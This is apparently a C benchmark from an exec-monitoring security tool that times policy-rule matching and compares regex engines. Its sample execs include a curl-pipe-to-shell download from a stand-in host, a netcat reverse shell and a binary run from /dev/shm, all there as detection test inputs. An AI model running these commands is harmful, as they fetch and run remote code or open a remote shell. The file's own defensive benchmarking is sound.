// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Policy match cost per exec, side by side in one run: the embedded default
 * policy repeated up to 100 rules, against 1 rule and the default, over a
 * mix of ordinary build execs (which match nothing, the common case) and a
 * few malicious ones. Prints ns per exec and ratios; no pass/fail.
 *
 * Then the regex engines alone, side by side over the same execs: every
 * regex of the default policy on every string of each exec (exe, basename,
 * argv, the joined command line, ancestors), with glibc's POSIX ERE (what
 * policies used before PCRE2), PCRE2's JIT and PCRE2's interpreter, and
 * how often the answers differ. PCRE2 keeps no answers here (REGEX_NO_MEMO):
 * this compares the matchers, not the agent's reuse of its answers.
 */
#include <regex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include "lib/path.h"
#include "lib/regex.h"
#include "lib/yaml_doc.h"
#include "policy/policy.h"

struct sample {
	const char *exe;
	const char *cwd;
	const char *argv[8];
	const char *anc[4];
};

static const struct sample samples[] = {
	{ "/usr/bin/x86_64-linux-gnu-gcc-12", "/src", { "cc", "-O2", "-c", "foo.c", "-o", "foo.o" },
	  { "/usr/bin/make", "/usr/bin/bash" } },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/src", { "cc1", "-quiet", "foo.c", "-O2" },
	  { "/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/make" } },
	{ "/usr/bin/x86_64-linux-gnu-as", "/src", { "as", "--64", "-o", "foo.o", "/tmp/cc1.s" },
	  { "/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/make" } },
	{ "/usr/bin/dash", "/src", { "/bin/sh", "-c", "test -f config.h || ./configure --prefix=/usr" },
	  { "/usr/bin/make" } },
	{ "/usr/bin/sed", "/src", { "sed", "-e", "s/@VERSION@/1.2.13/", "zlib.pc.in" },
	  { "/usr/bin/dash", "/usr/bin/make" } },
	{ "/usr/bin/python3.11", "/src", { "python3", "setup.py", "build" }, { "/usr/bin/make" } },
	{ "/usr/bin/git", "/src", { "git", "rev-parse", "HEAD" }, { "/usr/bin/dash" } },
	{ "/usr/bin/dash", "/src", { "sh", "-c", "curl -fsSL http://x.example/i.sh | sh" },
	  { "/usr/bin/node", "/usr/bin/npm" } },
	{ "/usr/bin/nc.openbsd", "/src", { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" },
	  { "/usr/bin/dash" } },
	{ "/dev/shm/x", "/src", { "/dev/shm/x" }, { "/usr/bin/dash" } },
};
#define N_SAMPLES (sizeof(samples) / sizeof(samples[0]))

static struct bw_exec_info infos[N_SAMPLES];

static void make_infos(void)
{
	size_t i, n;

	for (i = 0; i < N_SAMPLES; i++) {
		const struct sample *s = &samples[i];

		for (n = 0; s->argv[n]; n++)
			;
		infos[i] = (struct bw_exec_info){
			.filename = s->exe, .exe = s->exe, .cwd = s->cwd,
			.argv = (char *const *)s->argv, .argc_present = (uint32_t)n, .argc = (uint32_t)n,
		};
		for (n = 0; s->anc[n]; n++)
			;
		infos[i].ancestors = s->anc;
		infos[i].n_ancestors = (uint32_t)n;
	}
}

/*
 * The default policy's rules repeated (renamed), topped up with simple
 * basename rules to exactly `want`.
 */
static struct bw_policy *policy_with(size_t want)
{
	const char *def = policy_default_yaml(), *rules = strstr(def, "rules:\n");
	size_t body_len, cap, len, copies, extra, i;
	struct bw_policy *p = NULL, *probe = NULL;
	char *buf, *body, *out;

	if (!rules || policy_load_default(&probe, stderr))
		return NULL;
	copies = want / policy_rule_count(probe);
	extra = want - copies * policy_rule_count(probe);
	policy_free(probe);
	body = strdup(rules + strlen("rules:\n"));
	body_len = strlen(body);
	cap = (body_len + 4096) * copies + 128 * want + 64;
	buf = malloc(cap);
	out = buf;
	out += sprintf(out, "mode: enforce\nrules:\n");
	for (i = 0; i < copies; i++) {
		/* rename: "- name: x" -> "- name: x-cN" keeps names unique */
		const char *s = body, *hit;

		while ((hit = strstr(s, "- name: "))) {
			const char *eol = strchr(hit, '\n');

			memcpy(out, s, (size_t)(eol - s));
			out += eol - s;
			out += sprintf(out, "-c%zu", i);
			s = eol;
		}
		len = strlen(s);
		memcpy(out, s, len);
		out += len;
	}
	for (i = 0; i < extra; i++)
		out += sprintf(out, "  - name: extra-%zu\n    action: alert\n    match:\n"
				    "      basename: [tool-%zu, helper-%zu]\n", i, i, i);
	*out = '\0';
	if (policy_load_buffer("<bench>", buf, (size_t)(out - buf), &p, stderr))
		p = NULL;
	free(buf);
	free(body);
	return p;
}

static double now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e9 + ts.tv_nsec;
}

static volatile size_t sink;

static double bench(const struct bw_policy *p, long iters)
{
	const struct bw_rule *out[16];
	double t0 = now_ns();
	long i;

	for (i = 0; i < iters; i++)
		sink += policy_match(p, &infos[i % N_SAMPLES], out, 16);
	return (now_ns() - t0) / (double)iters;
}

static struct bw_policy *one_rule(void)
{
	static const char y[] = "rules:\n  - name: one\n    action: alert\n    match:\n"
				"      basename: [curl, wget]\n";
	struct bw_policy *p = NULL;

	return policy_load_buffer("<one>", y, sizeof(y) - 1, &p, stderr) ? NULL : p;
}

/* ---- the regex engines alone ---- */

#define MAX_RES 256
#define MAX_SUBJECTS 24

struct engines {
	size_t n;
	const char *text[MAX_RES];
	regex_t ere[MAX_RES];
	struct regex *jit[MAX_RES], *interp[MAX_RES];
};

/* Every scalar under a "regex" key of the default policy, in order. */
static void collect(yaml_document_t *doc, yaml_node_t *n, bool is_re, struct engines *en)
{
	if (n->type == YAML_SCALAR_NODE && is_re && en->n < MAX_RES)
		en->text[en->n++] = strdup((const char *)n->data.scalar.value);
	if (n->type == YAML_SEQUENCE_NODE)
		for (yaml_node_item_t *i = n->data.sequence.items.start;
		     i < n->data.sequence.items.top; i++)
			collect(doc, yaml_document_get_node(doc, *i), is_re, en);
	if (n->type == YAML_MAPPING_NODE)
		for (yaml_node_pair_t *p = n->data.mapping.pairs.start;
		     p < n->data.mapping.pairs.top; p++) {
			yaml_node_t *k = yaml_document_get_node(doc, p->key);

			collect(doc, yaml_document_get_node(doc, p->value),
				k->type == YAML_SCALAR_NODE &&
					!strcmp((const char *)k->data.scalar.value, "regex"),
				en);
		}
}

static int engines_load(struct engines *en)
{
	const char *def = policy_default_yaml();
	yaml_document_t doc;
	unsigned errors = 0;

	if (yaml_doc_load("<default>", "a policy", def, strlen(def), stderr, &doc, &errors))
		return -1;
	collect(&doc, yaml_document_get_root_node(&doc), false, en);
	yaml_document_delete(&doc);
	for (size_t i = 0; i < en->n; i++)
		if (regcomp(&en->ere[i], en->text[i], REG_EXTENDED | REG_NOSUB) ||
		    regex_compile(en->text[i], REGEX_NO_MEMO, &en->jit[i], NULL) ||
		    regex_compile(en->text[i], REGEX_NO_JIT | REGEX_NO_MEMO, &en->interp[i], NULL)) {
			fprintf(stderr, "bench_policy: cannot compile '%s'\n", en->text[i]);
			return -1;
		}
	return 0;
}

static void engines_free(struct engines *en)
{
	for (size_t i = 0; i < en->n; i++) {
		regfree(&en->ere[i]);
		regex_free(en->jit[i]);
		regex_free(en->interp[i]);
		free((char *)en->text[i]);
	}
}

/* The strings a policy's regexes see of an exec. */
static size_t subjects_of(const struct bw_exec_info *e, char *cmd, size_t cap,
			  const char **out)
{
	size_t n = 0, len = 0;

	out[n++] = e->exe;
	out[n++] = path_basename(e->exe);
	for (uint32_t i = 0; i < e->argc_present && n < MAX_SUBJECTS - 6; i++) {
		out[n++] = e->argv[i];
		len += (size_t)snprintf(cmd + len, cap - len, "%s%s", i ? " " : "", e->argv[i]);
	}
	out[n++] = cmd;
	for (uint32_t i = 0; i < e->n_ancestors && n < MAX_SUBJECTS; i++)
		out[n++] = e->ancestors[i];
	return n;
}

enum engine { ERE, JIT, INTERP };

/* ns per exec for one engine; *hits counts the matches of one pass. */
static double bench_engine(struct engines *en, enum engine which, long iters, size_t *hits)
{
	static char cmds[N_SAMPLES][1024];
	static const char *subj[N_SAMPLES][MAX_SUBJECTS];
	static size_t n_subj[N_SAMPLES];
	double t0;
	size_t h = 0;

	for (size_t s = 0; s < N_SAMPLES; s++)
		n_subj[s] = subjects_of(&infos[s], cmds[s], sizeof(cmds[s]), subj[s]);
	t0 = now_ns();
	for (long it = 0; it < iters; it++) {
		size_t s = (size_t)it % N_SAMPLES;

		for (size_t r = 0; r < en->n; r++)
			for (size_t k = 0; k < n_subj[s]; k++) {
				const char *x = subj[s][k];

				if (which == ERE)
					h += !regexec(&en->ere[r], x, 0, NULL, 0);
				else
					h += regex_match(which == JIT ? en->jit[r] : en->interp[r], x,
							 strlen(x)) == 1;
			}
	}
	if (hits)
		*hits = h;
	return (now_ns() - t0) / (double)iters;
}

/* Pairs (regex, string) on which ERE and PCRE2 answer differently. */
static size_t disagreements(struct engines *en)
{
	static char cmd[1024];
	const char *subj[MAX_SUBJECTS];
	size_t d = 0;

	for (size_t s = 0; s < N_SAMPLES; s++) {
		size_t n = subjects_of(&infos[s], cmd, sizeof(cmd), subj);

		for (size_t r = 0; r < en->n; r++)
			for (size_t k = 0; k < n; k++) {
				bool a = !regexec(&en->ere[r], subj[k], 0, NULL, 0);
				bool b = regex_match(en->jit[r], subj[k], strlen(subj[k])) == 1;
				bool c = regex_match(en->interp[r], subj[k], strlen(subj[k])) == 1;

				if (a != b || b != c) {
					fprintf(stderr, "  differ: '%s' on '%s': ERE %d JIT %d interp %d\n",
						en->text[r], subj[k], a, b, c);
					d++;
				}
			}
	}
	return d;
}

static int bench_regexes(long iters)
{
	struct engines en = { .n = 0 };
	double t[3] = { 1e18, 1e18, 1e18 };
	size_t hits = 0, jitted = 0, bytes = 0;

	if (engines_load(&en)) {
		engines_free(&en);
		return 1;
	}
	iters = iters / 20 > 1000 ? iters / 20 : 1000;
	for (int round = 0; round < 5; round++)
		for (int e = ERE; e <= INTERP; e++) {
			double v = bench_engine(&en, (enum engine)e, iters, e == ERE ? &hits : NULL);

			t[e] = v < t[e] ? v : t[e];
		}
	for (size_t i = 0; i < en.n; i++) {
		jitted += regex_jitted(en.jit[i]);
		bytes += regex_size(en.jit[i]);
	}
	printf("regex engines alone: the default policy's %zu regexes on every string of each "
	       "exec (best of 5 x %ld):\n", en.n, iters);
	printf("  POSIX ERE (glibc regexec)  %9.0f ns/exec  %6.2fx\n", t[ERE], 1.0);
	printf("  PCRE2 JIT (%zu of %zu jitted) %9.0f ns/exec  %6.2fx\n", jitted, en.n, t[JIT],
	       t[JIT] / t[ERE]);
	printf("  PCRE2 interpreter          %9.0f ns/exec  %6.2fx\n", t[INTERP],
	       t[INTERP] / t[ERE]);
	printf("  matches per pass: %zu; answers that differ between the engines: %zu\n",
	       hits * N_SAMPLES / (size_t)iters, disagreements(&en));
	printf("  PCRE2 compiled size, JIT code included: %.1f KiB\n", bytes / 1024.0);
	engines_free(&en);
	return 0;
}

int main(int argc, char **argv)
{
	long iters = argc > 1 ? atol(argv[1]) : 200000;
	struct bw_policy *p1, *pd = NULL, *p100;
	double t1, td, t100;
	int round;

	make_infos();
	p1 = one_rule();
	policy_load_default(&pd, stderr);
	p100 = policy_with(100);
	if (!p1 || !pd || !p100) {
		fprintf(stderr, "bench_policy: cannot build the policies\n");
		return 1;
	}
	/* Interleaved rounds, best of each: the machine is shared and noisy. */
	t1 = td = t100 = 1e18;
	for (round = 0; round < 5; round++) {
		double a = bench(p1, iters), b = bench(pd, iters), c = bench(p100, iters);

		t1 = a < t1 ? a : t1;
		td = b < td ? b : td;
		t100 = c < t100 ? c : t100;
	}
	printf("policy match cost per exec (%zu-exec mix, best of 5 x %ld):\n", N_SAMPLES, iters);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx\n", policy_rule_count(p1), t1, 1.0);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx  (embedded default policy)\n",
	       policy_rule_count(pd), td, td / t1);
	printf("  %4zu rule(s)  %9.0f ns/exec  %6.1fx\n", policy_rule_count(p100), t100, t100 / t1);
	printf("  per rule at %zu rules: %.1f ns\n", policy_rule_count(p100),
	       t100 / (double)policy_rule_count(p100));
	policy_free(p1);
	policy_free(pd);
	policy_free(p100);
	return bench_regexes(iters);
}
